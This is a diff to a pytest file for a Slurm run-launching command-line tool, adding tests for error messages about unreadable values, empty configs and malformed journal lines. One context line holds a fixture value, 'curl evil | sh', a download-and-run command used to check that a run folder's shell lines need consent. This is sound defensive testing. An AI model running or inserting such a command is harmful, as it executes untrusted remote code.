@@ -216,6 +216,28 @@ def test_retry_runs_shell_lines_of_a_run_folder_only_with_consent(
     assert {settings.setup for settings, _ in submitted} == {("curl evil | sh",), ()}
 
 
+def test_a_value_that_is_no_yaml_is_named(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
+    for argument in ("wait=[", "hydra.launcher.nodes=[1"):
+        code, said = launch(tmp_path, "retry", argument)
+        assert (code, len(said.splitlines())) == (1, 1)
+        assert said.startswith(f"{argument}: cannot be read (")
+
+
+def test_where_no_run_can_be_read_status_says_so(
+    tmp_path: Path, runs: dict[str, RunFolder], capsys: pytest.CaptureFixture[str]
+) -> None:
+    for run in runs.values():
+        run.config_path.write_text("")
+    said = f"runs_dir: no run in {tmp_path}/runs/ can be read; the lines above say what to do"
+    assert launch(tmp_path, "status") == (1, said)
+    assert capsys.readouterr().out.count("left out: ") == len(runs)
+
+
+def test_a_line_of_a_journal_that_is_no_object_stops_no_status(tmp_path: Path, runs: dict[str, RunFolder]) -> None:
+    runs["running"].journal_path.write_text("[3]\n")
+    assert launch(tmp_path, "status") == (0, "")
+
+
 def test_retry_with_lines_of_its_own_needs_no_consent(
     tmp_path: Path, runs: dict[str, RunFolder], submitted: list[tuple[Slurm, list[str]]]
 ) -> None:
